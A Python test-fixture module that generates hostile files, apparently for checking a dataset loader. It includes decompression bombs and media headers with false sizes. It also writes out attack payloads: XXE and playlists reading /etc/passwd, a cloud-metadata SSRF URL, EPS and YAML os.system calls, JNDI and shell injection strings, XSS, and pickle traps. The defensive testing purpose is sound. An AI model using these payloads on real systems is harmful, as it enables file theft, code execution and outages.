"""Hostile members and JSONL lines, made in code: bombs, lies in headers, formats under false names, pickles."""

from __future__ import annotations

import gzip
import io
import json
import pickle
import struct
import zlib
from collections.abc import Iterator

import av
import numpy as np
import soundfile
import zstandard
from hostile_shards import Fixture, Trap
from PIL import Image


def chunk(kind: bytes, data: bytes) -> bytes:
    """A PNG chunk with a right crc32."""
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width: int, height: int, *extra: bytes, rows: bytes | None = None, colour: int = 0) -> bytes:
    """A PNG of 8-bit grey with chunks in front of its pixels."""
    head = struct.pack(">IIBBBBB", width, height, 8, colour, 0, 0, 0)
    pixels = zlib.compress(bytes((width + 1) * height) if rows is None else rows, 9)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + b"".join(extra)
        + chunk(b"IDAT", pixels)
        + chunk(b"IEND", b"")
    )


def picture(kind: str, **more: object) -> bytes:
    out = io.BytesIO()
    Image.effect_noise((64, 64), 50).convert("RGB").save(out, kind, **more)
    return out.getvalue()


def animation(kind: str, frames: int) -> bytes:
    out = io.BytesIO()
    images = [Image.new("RGB", (8, 8), (n % 256, n // 256, 0)) for n in range(frames)]
    images[0].save(out, kind, save_all=True, append_images=images[1:])
    return out.getvalue()


def patched(data: bytes, find: bytes, put: bytes, shift: int = 0) -> bytes:
    at = data.index(find) + shift
    return data[:at] + put + data[at + len(put) :]


def pictures() -> Iterator[tuple[str, str, str, bytes]]:
    """(name, expect, ending, bytes)."""
    bomb = zlib.compress(bytes(80_000_000), 9)
    yield "PNG of 100,000 x 100,000", "unusable", "png", png(100_000, 100_000, rows=b"")
    yield "PNG of 2^31 x 1", "unusable", "png", png((1 << 31) - 1, 1, rows=b"")
    yield "PNG of 0 x 0", "unusable", "png", png(0, 0)
    yield "PNG text bomb (zTXt)", "unusable", "png", png(8, 8, chunk(b"zTXt", b"k\0\0" + bomb))
    yield "PNG text bomb (iTXt)", "unusable", "png", png(8, 8, chunk(b"iTXt", b"k\0\1\0\0\0" + bomb))
    yield "PNG profile bomb (iCCP)", "unusable", "png", png(8, 8, chunk(b"iCCP", b"k\0\0" + bomb))
    yield (
        "PNG with 18,000 text chunks",
        "unusable",
        "png",
        png(8, 8, chunk(b"tEXt", b"k\0" + bytes(4000)) * 18_000),
    )
    yield "PNG whose pixels are too few", "unusable", "png", png(64, 64, rows=b"\0" * 100)
    yield "PNG of 5,000 x 5,000 in 30 KB", "harmless", "png", png(5000, 5000)
    yield "PNG animation (acTL)", "unusable", "png", animation("PNG", 300)
    yield "WebP of 2,000 frames", "unusable", "webp", animation("WEBP", 2000)
    yield "GIF of 3,000 frames named .png", "unusable", "png", animation("GIF", 3000)
    yield "JPEG cut off", "unusable", "jpg", picture("JPEG")[:700]
    jpeg = picture("JPEG")
    size = jpeg.index(b"\xff\xc0") + 5
    yield "JPEG of 65,535 x 65,535", "unusable", "jpg", jpeg[:size] + b"\xff" * 4 + jpeg[size + 4 :]
    yield (
        "JPEG with a bomb of progressive scans",
        "unusable",
        "jpg",
        _scans(picture("JPEG", progressive=True)),
    )
    yield "TIFF named .jpg", "unusable", "jpg", picture("TIFF")
    yield "BMP named .png", "unusable", "png", picture("BMP")
    yield (
        "EPS named .jpg",
        "unusable",
        "jpg",
        b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(touch pwned) system\n",
    )
    entity = b'<?xml version="1.0"?><!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>'
    yield "SVG with an entity named .png", "unusable", "png", entity
    yield (
        "WebP that lies about its size",
        "unusable",
        "webp",
        patched(picture("WEBP"), b"RIFF", b"\xff" * 4, 4),
    )


def _scans(data: bytes) -> bytes:
    """A progressive JPEG whose last scan is repeated 20,000 times (a decoder may work for hours)."""
    at = data.rindex(b"\xff\xda")
    end = data.rindex(b"\xff\xd9")
    return data[:end] + data[at : at + 12] * 20_000


def sound(kind: str, rate: int = 8000, seconds: float = 0.5, **more: object) -> bytes:
    out = io.BytesIO()
    wave = (np.sin(np.arange(int(rate * seconds)) * 0.1) * 9000).astype(np.int16)
    soundfile.write(out, wave, rate, format=kind, **more)
    return out.getvalue()


def sounds() -> Iterator[tuple[str, str, str, bytes]]:
    """(name, expect, ending, bytes)."""
    flac, wav = sound("FLAC"), sound("WAV")
    total = bytes([flac[21] | 0x0F]) + b"\xff" * 4  # the 36 bits of STREAMINFO that count samples
    yield "FLAC of 2^36 samples", "unusable", "flac", flac[:21] + total + flac[26:]
    yield "FLAC of 2^27 samples in 3 KB", "unusable", "flac", flac[:22] + b"\x08\0\0\0" + flac[26:]
    yield (
        "FLAC without a sample rate",
        "unusable",
        "flac",
        flac[:18] + b"\0\0" + bytes([flac[20] & 15]) + flac[21:],
    )
    yield "FLAC cut off", "unusable", "flac", flac[: len(flac) // 2]
    yield "WAV at 4 GHz", "unusable", "wav", wav[:24] + b"\xfb\xff\xff\xff" + wav[28:]
    yield "WAV at 1 Hz", "unusable", "wav", wav[:24] + b"\1\0\0\0" + wav[28:]
    yield "WAV at a prime rate", "harmless", "wav", sound("WAV", 767_999, 0.1)
    yield "WAV of 65,535 channels", "unusable", "wav", wav[:22] + b"\xff\xff" + wav[24:]
    yield "WAV that promises 4 GB", "unusable", "wav", patched(wav, b"data", b"\xf0\xff\xff\xff", 4)
    out = io.BytesIO()
    soundfile.write(out, np.full(99, np.nan), 8000, format="WAV", subtype="DOUBLE")
    yield "WAV of NaNs", "unusable", "wav", out.getvalue()
    yield "OGG cut off", "unusable", "ogg", sound("OGG")[:-40]
    yield "MP3 cut off", "unusable", "mp3", sound("MP3", 16_000)[:-40]
    yield "MP3 of 100,000 broken headers", "unusable", "mp3", b"\xff\xfb\x94\xc4" * 100_000
    yield "AIFF named .wav", "unusable", "wav", sound("AIFF")


def clip(codec: str = "mpeg4", frames: int = 8, size: int = 32, kind: str = "mp4") -> bytes:
    out = io.BytesIO()
    with av.open(out, "w", format=kind) as file:
        stream = file.add_stream(codec, rate=8)
        stream.width = stream.height = size
        blank = np.zeros((size, size, 3), np.uint8)
        for n in range(frames):
            blank[:, : n % size] = n % 256
            file.mux(stream.encode(av.VideoFrame.from_ndarray(blank, format="rgb24")))
        file.mux(stream.encode())
    return out.getvalue()


def clips() -> Iterator[tuple[str, str, str, bytes]]:
    """(name, expect, ending, bytes)."""
    mp4 = clip()
    yield (
        "MP4 box of 2^63 bytes",
        "unusable",
        "mp4",
        patched(mp4, b"mdat", b"\0\0\0\1mdat\x7f" + b"\xff" * 7, -4),
    )
    yield "MP4 with a broken moov", "unusable", "mp4", patched(mp4, b"stbl", b"\xff" * 40, 4)
    yield "MP4 without its moov", "unusable", "mp4", mp4[: mp4.index(b"moov") - 4]
    yield "MP4 whose container lies about its size", "harmless", "mp4", patched(mp4, b"mp4v", b"\xff" * 4, 28)
    webm = clip("libvpx", kind="webm")
    yield (
        "VP8 that grows to 16,383 x 16,383",
        "unusable",
        "webm",
        patched(webm, b"\x9d\x01\x2a", b"\xff\x3f" * 2, 3),
    )
    yield "MP4 that ends early", "unusable", "mp4", mp4[:-50]
    yield "MP4 of 2^32 samples", "unusable", "mp4", patched(mp4, b"stsz", b"\xff" * 8, 8)
    yield "MP4 that lasts for days", "unusable", "mp4", patched(mp4, b"stts", b"\x7f" + b"\xff" * 3, 16)
    yield "MP4 of 2,000 frames", "unusable", "mp4", clip(frames=2000, size=16)
    yield "MP4 of 40 black frames of 1024 x 1024", "harmless", "mp4", clip(frames=40, size=1024)
    yield "WebM cut off", "unusable", "webm", clip("libvpx", kind="webm")[:300]
    yield (
        "HLS playlist named .mp4",
        "unusable",
        "mp4",
        b"#EXTM3U\n#EXTINF:1,\nfile:///etc/passwd\n#EXT-X-ENDLIST\n",
    )
    yield "concat script named .mkv", "unusable", "mkv", b"ffconcat version 1.0\nfile /etc/passwd\n"
    yield (
        "SDP named .webm",
        "unusable",
        "webm",
        b"v=0\no=- 0 0 IN IP4 127.0.0.1\nc=IN IP4 127.0.0.1\nm=video 9 RTP/AVP 96\n",
    )
    yield (
        "playlist behind an ftyp",
        "unusable",
        "mp4",
        b"\0\0\0\x0cftypisom#EXTM3U\nhttp://169.254.169.254/\n",
    )


def records() -> Iterator[tuple[str, str, str, bytes]]:
    """(name, expect, ending, bytes) of json and text members, and of what must stay bytes."""
    yield "JSON nested 100,000 deep", "unusable", "json", b"[" * 100_000 + b"]" * 100_000
    yield "JSON number of 100,000 digits", "unusable", "json", b'{"n": ' + b"7" * 100_000 + b"}"
    yield "JSON with NaN", "unusable", "json", b'{"text": "x", "n": NaN}'
    yield "JSON with a key twice", "unusable", "json", b'{"text": "a", "text": "b"}'
    yield "JSON that is not UTF-8", "unusable", "json", b'{"text": "\xff"}'
    yield "JSON with a lone surrogate", "unusable", "json", b'{"text": "\\ud800"}'
    yield (
        "JSON of 50,000 keys",
        "harmless",
        "json",
        json.dumps({"text": "x"} | {f"k{n}": n for n in range(50_000)}).encode(),
    )
    yield (
        "JSON that names a class",
        "harmless",
        "json",
        b'{"text": "x", "__class__": "os.system", "py/reduce": ["os.system"]}',
    )
    yield "gzip member bomb", "unusable", "json.gz", gzip.compress(bytes(300_000_000), 9)
    yield "zstd member bomb", "unusable", "txt.zst", zstandard.ZstdCompressor().compress(bytes(300_000_000))
    yield "text that is not UTF-8", "unusable", "txt", b"\xc3\x28" * 1000
    yield "YAML that calls os.system", "harmless", "txt", b"!!python/object/apply:os.system ['touch pwned']"
    yield (
        "template that calls os.system",
        "harmless",
        "txt",
        b"{{ ''.__class__ }} ${jndi:ldap://x} `touch pwned` $(touch pwned)",
    )
    yield "text of terminal escapes", "harmless", "txt", b"\x1b]0;pwned\x07\x1b[2J\x1b[31mred"
    yield "text of HTML", "harmless", "txt", b"<script>fetch('http://x')</script><img src=x onerror=alert(1)>"
    trap = pickle.dumps(Trap())
    for ending in ("pkl", "pyd", "pth", "pickle", "pt", "ckpt", "joblib"):
        yield f"pickle named .{ending}", "harmless", ending, trap
    out = io.BytesIO()
    np.save(out, np.asarray([Trap()], dtype=object), allow_pickle=True)
    yield "array of objects (.npy)", "harmless", "npy", out.getvalue()
    yield "pickle named .png", "unusable", "png", trap
    yield "pickle named .json", "unusable", "json", trap


def lines() -> Iterator[tuple[str, bytes]]:
    """(name, a JSONL file in which one line of many is bad)."""
    good = b'{"q": "a", "a": "b"}\n'
    for name, bad in [
        ("JSONL with a key twice", b'{"q": "a", "q": "b", "a": "c"}'),
        ("JSONL that is not UTF-8", b'{"q": "\xff", "a": "c"}'),
        ("JSONL nested deeply", b'{"q": ' + b"[" * 200_000),
        ("JSONL line of 70 MB", b'{"q": "' + b"x" * 70_000_000 + b'"}'),
        ("JSONL with NUL bytes", b"\0" * 5000),
        ("JSONL with a number of 50,000 digits", b'{"q": "a", "a": ' + b"9" * 50_000 + b"}"),
    ]:
        yield name, good * 30 + bad + b"\n" + good * 30


def member_fixtures() -> list[Fixture]:
    """All of this module."""
    made = [
        Fixture(name, "member", expect, lambda data=data: data, ext)  # type: ignore[misc]
        for group in (pictures, sounds, clips, records)
        for name, expect, ext, data in group()
    ]
    return made + [Fixture(name, "jsonl", "unusable", lambda d=d: d) for name, d in lines()]  # type: ignore[misc]
